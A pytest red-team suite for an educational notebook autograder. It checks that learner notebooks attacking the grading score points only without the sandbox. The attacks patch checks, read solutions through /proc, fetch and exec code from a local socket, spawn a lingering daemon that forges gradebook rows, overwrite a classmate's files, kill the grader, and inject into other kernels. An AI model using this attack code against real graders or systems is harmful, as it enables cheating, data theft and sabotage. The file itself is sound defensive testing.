"""Red team: attacks a learner can make on grading, each shown to work against the old in-kernel
scoring (``tests/redteam_baseline.py``, no sandbox) and to earn nothing and change nothing under
the grader.

Most attacks use the tiny exercise of ``tests/grading_helpers.py`` (no torch) and are graded in
one class run per grader; the attacks on "do not use F.grid_sample" use the real exercise 03.
Every attack is aimed only at this test's own files and processes (its ancestors' command lines,
its temporary folders, its own kernels).
"""
from __future__ import annotations

import json
import os
import shutil
import socket
import subprocess
import sys
import threading
import time
from pathlib import Path

import nbformat
import pytest
from nbformat.v4 import new_code_cell

from dat_edu.course import grade
from tests.grading_helpers import (
    ADD_AT, CHECK1_AT, CHECK2_AT, CHECK3_AT, DOUBLE_AT, HIDDEN_MARK, MEAN_AT, exercise_nb, filled, read_rows, save, snapshot, write_solutions,
)

ROOT = Path(__file__).resolve().parents[1]
CANARY = "canary-5be1"  # in the grader's environment; no notebook may see it
SOLVED = ("def add(a, b):\n    return a + b\n\ndef double(x):\n    return 2 * x\n\n"
          "def mean(xs):\n    return sum(xs) / len(xs)\n")
WRONG = dict(add="return 0", double="return 0", mean="return 0")

# Finds the grader's command line and working folder by walking up this process's ancestors (never
# other processes), stopping at the first one that looks like a grader. Both graders are given paths
# relative to their working folder, so the attacks need both.
ANCESTORS = """
import os
def _grader():
    pid = os.getppid()
    while pid > 1:
        try:
            args = [a.decode(errors="replace") for a in open(f"/proc/{pid}/cmdline", "rb").read().split(b"\\0")]
            if "--solutions" in args:
                return pid, args
            pid = int(open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            break
    return None, []
def _grader_path(flag):  # a relative path is read through the grader's working folder
    pid, args = _grader()
    return os.path.realpath(os.path.join(f"/proc/{pid}/cwd", args[args.index(flag) + 1])) if flag in args else None
def _grader_dirs():
    pid, args = _grader()
    return [p for p in (os.path.join(f"/proc/{pid}/cwd", a) for a in args if a) if os.path.isdir(p)]
"""
# strikes once the grader has exited: appends to its gradebook
DAEMON = """import time
grader, out = _grader()[0], _grader_path("--out")
try:
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            end = time.time() + 120
            while grader and time.time() < end:
                try:
                    os.kill(grader, 0)
                except ProcessLookupError:
                    break
                time.sleep(0.2)
            time.sleep(2)
            if out:
                open(out, "a").write("daemon,1,100\\n")
            os._exit(0)
        os._exit(0)
except OSError as e:
    print("no fork:", e)
"""
ATTACKS = {
    # -- patching the check machinery from a learner cell
    "patch-exit": ("import dat_edu.course.checks as c\nc.Part.__exit__ = lambda self, *exc: True", {}),
    "fake-part": ("class part:\n    def __init__(self, *a):\n        pass\n    def __enter__(self):\n        return self\n"
                  "    def __exit__(self, *exc):\n        return True", {}),
    "transformer": ("get_ipython().input_transformers_cleanup.append(\n"
                    "    lambda lines: ['pass\\n'] if any('with part(' in l for l in lines) else lines)", {}),
    "settrace": ("import sys\ndef _tracer(frame, event, arg):\n    if event == 'call' and frame.f_code.co_name == 'check':\n"
                 "        frame.f_locals['condition'] = True\n    return None\nsys.settrace(_tracer)", WRONG),
    "lying-objects": ("class _Yes:\n    def __eq__(self, other):\n        return True\n",
                      dict(add="return _Yes()", double="return _Yes()", mean="return _Yes()")),
    # -- reading what a learner must not see
    "read-solutions": (ANCESTORS + "import json\nsol = _grader_path('--solutions')\nif sol:\n"
                       "    for c in json.load(open(os.path.join(sol, '01_tiny.ipynb')))['cells']:\n"
                       "        if '### BEGIN SOLUTION' in ''.join(c['source']):\n            exec(''.join(c['source']))", None),
    "copy-classmate": (ANCESTORS + "import json, glob\nfor d in _grader_dirs():\n"
                       "    for p in glob.glob(os.path.join(d, 'good', '*.ipynb')):\n"
                       "        for c in json.load(open(p))['cells']:\n            if ''.join(c['source']).startswith('def '):\n"
                       "                exec(''.join(c['source']))", None),
    "network": ("import socket\ntry:\n    s = socket.create_connection(('127.0.0.1', __PORT__), timeout=3)\n"
                "    exec(s.recv(65536).decode())\nexcept OSError as e:\n    print('no network:', e)", None),
    # -- outliving the grader
    "daemon": (ANCESTORS + DAEMON, {}),
}
# -- writing outside: a classmate's submission, the solutions, the installed library
VANDAL = (ANCESTORS + "import dat_edu.course.checks as c\nfor d in _grader_dirs():\n"
          "    for p in [os.path.join(d, 'victim', '01_tiny.ipynb'), os.path.join(d, '01_tiny.ipynb')]:\n"
          "        if os.path.exists(p):\n            open(p, 'w').write('{ broken')\n"
          "open(c.__file__, 'a').write('\\ncheck = lambda *a, **k: None\\n')")
KILLER = "import os\nos.kill(os.getppid(), 9)"
# connection files of other kernels: the old scoring's kernels write them to the temporary folder
# (here a private one: the attack refuses to run without it, so it can never reach other kernels)
INJECTOR = """import glob, os, time
from ipykernel.connect import get_connection_file
from jupyter_client import BlockingKernelClient
here = os.environ.get("DAT_EDU_REDTEAM_TMP") or ("/tmp" if os.environ.get("DAT_EDU_GRADING") else None)
mine, hit, end = get_connection_file(), set(), time.time() + 20
while here and time.time() < end and not hit:
    for f in glob.glob(os.path.join(here, "*.json")):
        if os.path.basename(f) != os.path.basename(mine):
            c = BlockingKernelClient(connection_file=f)
            c.load_connection_file()
            c.start_channels()
            c.execute("import os; os._exit(1)")
            hit.add(f)
    time.sleep(0.1)
time.sleep(2)
"""
# -- reading the environment, the hidden tests (from the In history, from the caller's frames)
SPY_FIRST = ("import os, sys\nprint(os.environ.get('DAT_EDU_REDTEAM_CANARY', 'no canary'))\n"
             "open('__LEAK__', 'w').write(os.environ.get('DAT_EDU_REDTEAM_CANARY', 'no canary'))")
SPY_ADD = ("def add(a, b):\n    import sys\n    f, seen = sys._getframe(), []\n    while f:\n"
           "        seen += [c for c in f.f_code.co_consts if isinstance(c, str)]\n        f = f.f_back\n"
           "    found = [s for s in seen if '__MARK1__' + '__MARK2__' in s]\n    print('hidden text found in frames:', bool(found))\n"
           "    open('__LEAK__.frames', 'w').write('\\n'.join(found))\n    return a + b\n")
SPY_LATER = ("leaked = [s for s in In if '__MARK1__' + '__MARK2__' in s]\nprint('hidden text found in history:', bool(leaked))\n"
             "open('__LEAK__.in', 'w').write('\\n'.join(leaked))")


def attack_notebook(code: str, bodies: dict | None):
    """The attack in a cell of its own after the imports; or, with ``bodies=None``, in place of the
    learner's functions (an attack that gets them from somewhere instead of writing them)."""
    if bodies is None:
        nb = exercise_nb()
        nb.cells[ADD_AT].source = code
        nb.cells[DOUBLE_AT].source = nb.cells[MEAN_AT].source = "pass"
        return nb
    nb = filled(**bodies) if bodies else exercise_nb()
    nb.cells.insert(2, new_code_cell(code))
    return nb


def build_class(root: Path, port: int, leak: Path, which: str) -> None:
    """The learners of one run: "main" (most attacks), "vandal", "killer", "injector", or "all" of them."""
    def fill(code: str) -> str:
        return code.replace("__PORT__", str(port)).replace("__LEAK__", str(leak)).replace("__MARK1__", HIDDEN_MARK[:4]).replace("__MARK2__", HIDDEN_MARK[4:])

    if which in ("main", "killer", "all"):
        save(root / "good", "01_tiny.ipynb", filled())
    if which in ("vandal", "all"):
        save(root / "0-vandal", "01_tiny.ipynb", attack_notebook(VANDAL, {}))
        save(root / "victim", "01_tiny.ipynb", filled())
    if which in ("killer", "all"):
        nb = filled()
        nb.cells.insert(CHECK1_AT + 1, new_code_cell(KILLER))
        save(root / "zz-killer", "01_tiny.ipynb", nb)
    if which in ("injector", "all"):
        save(root / "injector", "01_tiny.ipynb", attack_notebook(INJECTOR, {}))
        nb = filled()  # a classmate whose first cell takes a few seconds (loading data, say)
        nb.cells.insert(2, new_code_cell("import time\ntime.sleep(4)"))
        save(root / "slow-victim", "01_tiny.ipynb", nb)
    if which not in ("main", "all"):
        return
    for name, (code, bodies) in ATTACKS.items():
        save(root / name, "01_tiny.ipynb", attack_notebook(fill(code), bodies))
    nb = exercise_nb()
    nb.cells[ADD_AT].source = fill(SPY_ADD)
    nb.cells.insert(CHECK1_AT + 1, new_code_cell(fill(SPY_LATER)))
    nb.cells.insert(2, new_code_cell(fill(SPY_FIRST)))
    save(root / "spy", "01_tiny.ipynb", nb)
    # a symbolic link to the solutions; a fake dat_edu package next to the notebook
    (root / "symlink").mkdir()
    os.symlink(root.parent / "solutions" / "01_tiny.ipynb", root / "symlink" / "01_tiny.ipynb")
    fake = root / "fake-package" / "dat_edu" / "course"
    fake.mkdir(parents=True)
    (fake.parent / "__init__.py").write_text("")
    (fake / "__init__.py").write_text("")
    (fake / "checks.py").write_text(ATTACKS["fake-part"][0] + "\ndef check(*a, **k):\n    pass\n"
                                    "def forbid_calls(fn, *names, args=(), kwargs=None, part=None):\n    return 3\n")
    save(root / "fake-package", "01_tiny.ipynb", exercise_nb())
    # every check tag on one cell (the only part done is mean); the other check cells deleted
    nb = filled(add="raise NotImplementedError()", double="raise NotImplementedError()")
    nb.cells[CHECK3_AT].metadata["tags"] = ["check:part1", "check:part2", "check:part3"]
    del nb.cells[CHECK2_AT]
    del nb.cells[CHECK1_AT]
    save(root / "all-tags", "01_tiny.ipynb", nb)


def serve_solution() -> tuple[int, threading.Event]:
    srv = socket.socket()
    srv.bind(("127.0.0.1", 0))
    srv.listen(8)
    srv.settimeout(0.5)
    stop = threading.Event()

    def loop() -> None:
        while not stop.is_set():
            try:
                conn, _ = srv.accept()
            except OSError:
                continue
            conn.sendall(SOLVED.encode())
            conn.close()
        srv.close()

    threading.Thread(target=loop, daemon=True).start()
    return srv.getsockname()[1], stop


def rel(path: Path) -> str:
    return os.path.relpath(path, ROOT)


def run_baseline(subs: Path, solutions: Path, out: Path, library: Path | None, jobs: int = 2) -> subprocess.CompletedProcess:
    private = out.parent / "tmp"
    private.mkdir(exist_ok=True)
    env = dict(os.environ, TMPDIR=str(private), DAT_EDU_REDTEAM_TMP=str(private), JUPYTER_RUNTIME_DIR=str(private),
               IPYTHONDIR=str(out.parent / "ipython"), MPLCONFIGDIR=str(out.parent / "mpl"), PYDEVD_DISABLE_FILE_VALIDATION="1")
    if library is not None:
        env["DAT_EDU_BASELINE_LIBRARY"] = str(library)
    cmd = [sys.executable, "-m", "tests.redteam_baseline", rel(subs), "--solutions", rel(solutions), "--out", rel(out), "--jobs", str(jobs)]
    with open(out.parent / "baseline.log", "w") as log:  # not a pipe: a daemon holding it would delay the return
        return subprocess.run(cmd, cwd=ROOT, env=env, stdout=log, stderr=log, timeout=600)


def baseline_points(out: Path) -> dict[tuple[str, str], float]:
    if not out.exists():
        return {}
    import csv

    with open(out, newline="") as fh:
        return {(r["learner"], r["part"]): float(r["points"]) for r in csv.DictReader(fh) if r.get("points")}


def library_copy(where: Path) -> Path:
    shutil.copytree(ROOT / "dat_edu", where / "dat_edu", ignore=shutil.ignore_patterns("__pycache__"))
    probe = subprocess.run([sys.executable, "-c", "import dat_edu; print(dat_edu.__file__)"], env=dict(os.environ, PYTHONPATH=str(where)),
                           capture_output=True, text=True, cwd="/")
    assert probe.stdout.strip().startswith(str(where)), "the baseline would write into the real library: stop"
    return where


class Run:
    """One class run: its folders, its gradebook's points, what changed."""

    def __init__(self, tmp: Path, which: str, port: int):
        self.tmp, self.which = tmp, which
        self.solutions = write_solutions(tmp / "solutions")
        self.subs, self.leak, self.gradebook = tmp / "submissions", tmp / "leak.txt", tmp / "gradebook.csv"
        build_class(self.subs, port, self.leak, which)
        self.before = grade.tree_digest(self.solutions), snapshot(self.subs)

    def finish(self, library: Path, library_before: dict) -> "Run":
        written = self.gradebook.read_bytes() if self.gradebook.exists() else None
        self.points = baseline_points(self.gradebook) if written is not None else {}
        self.solutions_changed = self.before[0] != grade.tree_digest(self.solutions)
        victim = self.subs / "victim" / "01_tiny.ipynb"
        self.victim_changed = victim in self.before[1] and self.before[1][victim] != snapshot(self.subs).get(victim)
        self.library_changed = library_before != grade.tree_digest(library)
        self._written = written
        return self

    def gradebook_rewritten(self) -> bool:
        return self._written is not None and self._written != self.gradebook.read_bytes()


def baseline(tmp: Path, which: str, port: int, jobs: int) -> Run:
    """The old scoring; the vandal's run imports a throw-away copy of dat_edu (the others write nothing there,
    and a copy on PYTHONPATH would shadow the fake package next to a notebook)."""
    run = Run(tmp, which, port)
    library = library_copy(tmp / "library") if which == "vandal" else None
    lib_dir = library / "dat_edu" if library else ROOT / "dat_edu"
    before = grade.tree_digest(lib_dir)
    run.proc = run_baseline(run.subs, run.solutions, run.gradebook, library, jobs)
    return run.finish(lib_dir, before)


@pytest.fixture(scope="module")
def runs(tmp_path_factory):
    port, stop = serve_solution()
    os.environ["DAT_EDU_REDTEAM_CANARY"] = CANARY
    try:
        out = {w: baseline(tmp_path_factory.mktemp(w), w, port, 1 if w in ("vandal", "killer") else 2)
               for w in ("main", "vandal", "killer", "injector")}
        new = Run(tmp_path_factory.mktemp("graded"), "all", port)
        library_before = grade.tree_digest(ROOT / "dat_edu")
        # a process of its own, as an instructor runs it: what its command line and working folder give away
        cmd = [sys.executable, "-m", "dat_edu.course.grade", rel(new.subs), "--solutions", rel(new.solutions), "--out",
               rel(new.gradebook), "--jobs", "2", "--cell-timeout", "10", "--quiet"]
        assert subprocess.run(cmd, cwd=ROOT, timeout=600).returncode == 0
        out["graded"] = new.finish(ROOT / "dat_edu", library_before)
        out["graded"].rows = read_rows(new.gradebook)["by"]
        time.sleep(6)  # long enough for a daemon to strike
        return out
    finally:
        stop.set()
        os.environ.pop("DAT_EDU_REDTEAM_CANARY", None)


def total(run: Run, learner: str) -> float:
    return sum(v for (who, part), v in run.points.items() if who == learner and part in ("1", "2", "3"))


@pytest.mark.parametrize("learner", ["patch-exit", "fake-part", "transformer", "settrace", "lying-objects", "read-solutions",
                                     "copy-classmate", "network", "symlink", "fake-package", "all-tags"])
def test_attack_earns_points_only_without_the_sandbox(runs, learner):
    assert total(runs["main"], learner) > 0, f"{learner}: the attack does not even work on the old scoring"
    assert total(runs["graded"], learner) == 0, f"{learner}: the attack earns points under the grader"


def test_writing_outside_changes_nothing(runs):
    old, new = runs["vandal"], runs["graded"]
    assert old.victim_changed and old.solutions_changed and old.library_changed, "the vandal failed on the old scoring"
    assert total(old, "victim") == 0
    assert not new.victim_changed and not new.solutions_changed and not new.library_changed
    assert total(new, "victim") == 4
    assert "solutions and the dat_edu package unchanged" in new.rows[("", "")]["message"]


def test_no_daemon_outlives_the_grader(runs):
    assert runs["main"].gradebook_rewritten(), "the daemon failed on the old scoring"
    assert not runs["graded"].gradebook_rewritten()


def test_killing_the_grader(runs):
    assert not runs["killer"].gradebook.exists(), "the old scoring survived os.kill(os.getppid(), 9)"
    assert total(runs["graded"], "good") == 4 and total(runs["graded"], "zz-killer") == 4


def test_reaching_a_classmates_kernel(runs):
    assert total(runs["injector"], "slow-victim") < 4, "the injection failed on the old scoring"
    assert total(runs["graded"], "slow-victim") == 4


def test_hidden_tests_and_the_environment_stay_out_of_the_notebook(runs):
    old, new = runs["main"], runs["graded"]
    assert old.leak.read_text() == CANARY
    assert HIDDEN_MARK in Path(f"{old.leak}.in").read_text() and HIDDEN_MARK in Path(f"{old.leak}.frames").read_text()
    assert not any(Path(f"{new.leak}{s}").exists() for s in ("", ".in", ".frames"))
    review = nbformat.read(new.tmp / "gradebook-review" / "spy" / "01_tiny.ipynb", as_version=4)
    printed = "".join(o.get("text", "") for c in review.cells if c.cell_type == "code" for o in c.outputs)
    assert "no canary" in printed and CANARY not in printed and HIDDEN_MARK not in printed
    assert "hidden text found in frames: False" in printed and "hidden text found in history: False" in printed


# ---- "do not use F.grid_sample" (exercise 03, part 3) ------------------------------------------

GRID = ("c, h, w = feat.shape\n    grid = torch.stack([px / (w - 1) * 2 - 1, py / (h - 1) * 2 - 1], dim=-1).view(1, 1, -1, 2)\n"
        "    mode = {'zeros': 0, 'border': 1}[padding]\n")
FORBID_ATTACKS = {
    # an alias the old check did not patch: a default argument bound to the built-in
    "alias": ("def bilinear_at(feat, py, px, padding='zeros', _gs=torch.grid_sampler):\n    " + GRID +
              "    return _gs(feat[None], grid, 0, mode, True)[0, :, 0]\n", ""),
    # the operator itself, by a computed name
    "operator": ("def bilinear_at(feat, py, px, padding='zeros'):\n    " + GRID + "    op = getattr(torch.ops.aten, 'grid_' + 'sampler_2d')\n"
                 "    return op(feat[None], grid, 0, mode, True)[0, :, 0]\n", ""),
    # a wrong answer, and numpy.abs patched so that check_close passes everything
    "numpy-abs": ("def bilinear_at(feat, py, px, padding='zeros'):\n    c, h, w = feat.shape\n    return feat[:, py.round().long().clamp(0, h - 1), "
                  "px.round().long().clamp(0, w - 1)]\n", "import numpy\nnumpy.abs = lambda x: numpy.zeros(numpy.shape(x))"),
}
# switches PyTorch's dispatch modes off around a built-in held in a default argument: this is beyond
# what the sandbox can prove, so the grader must flag it for review
EVADE = ("import torch.utils._python_dispatch as _pd\n\ndef bilinear_at(feat, py, px, padding='zeros', _raw=torch.grid_sampler):\n"
         "    " + GRID + "    with _pd._disable_current_modes():\n        return _raw(feat[None], grid, 0, mode, True)[0, :, 0]\n")


def sampling_class(root: Path, evade: bool) -> None:
    """The honest learner and the attacks on part 3 (with ``evade``, the flagged evasion too: only the grader needs it)."""
    from tests.test_wrong_answers import check_cells

    sol = nbformat.read(ROOT / "solutions" / "03_sampling.ipynb", as_version=4)
    exe = nbformat.read(ROOT / "exercises" / "03_sampling.ipynb", as_version=4)
    for index in check_cells(exe).values():
        sol.cells[index] = exe.cells[index]
    part3_cell = next(i for i, c in enumerate(sol.cells) if c.source.startswith("def bilinear_at("))
    save(root / "honest", "03_sampling.ipynb", sol)
    for name, (source, extra) in {**FORBID_ATTACKS, **({"evade": (EVADE, "")} if evade else {})}.items():
        nb = nbformat.from_dict(json.loads(nbformat.writes(sol)))
        nb.cells[part3_cell].source = source
        if extra:
            nb.cells.insert(part3_cell, new_code_cell(extra))
        save(root / name, "03_sampling.ipynb", nb)


@pytest.fixture(scope="module")
def forbid_runs(tmp_path_factory):
    out = {}
    for mode in ("baseline", "graded"):
        tmp = tmp_path_factory.mktemp(f"forbid-{mode}")
        (tmp / "solutions").mkdir()
        shutil.copy(ROOT / "solutions" / "03_sampling.ipynb", tmp / "solutions")
        sampling_class(tmp / "submissions", evade=mode == "graded")
        gradebook = tmp / "gradebook.csv"
        if mode == "baseline":
            run_baseline(tmp / "submissions", tmp / "solutions", gradebook, None, jobs=2)
            out[mode] = (baseline_points(gradebook), {})
        else:
            assert grade.main([str(tmp / "submissions"), "--solutions", str(tmp / "solutions"), "--out", str(gradebook),
                               "--jobs", "2", "--quiet", "--no-review"]) == 0
            rows = read_rows(gradebook)["by"]
            out[mode] = ({k: float(r["points"]) for k, r in rows.items()}, rows)
    return out


@pytest.mark.parametrize("learner", sorted(FORBID_ATTACKS))
def test_forbidden_function_is_caught_below_aliases(forbid_runs, learner):
    old, new = forbid_runs["baseline"][0], forbid_runs["graded"][0]
    assert old[("honest", "3")] == 2 and new[("honest", "3")] == 2
    assert old[(learner, "3")] == 2, f"{learner}: the attack does not even work on the old scoring"
    assert new[(learner, "3")] == 0, f"{learner}: the attack earns part 3 under the grader"


def test_what_cannot_be_proven_is_flagged_for_review(forbid_runs):
    points, rows = forbid_runs["graded"]
    assert points[("evade", "3")] == 2  # best effort: the interception was switched off ...
    assert "changes dispatch modes" in rows[("evade", "3")]["flags"]  # ... and the instructor is told
    assert "flagged" not in rows[("honest", "3")]["flags"]
    assert "flagged for review" in rows[("operator", "3")]["flags"]
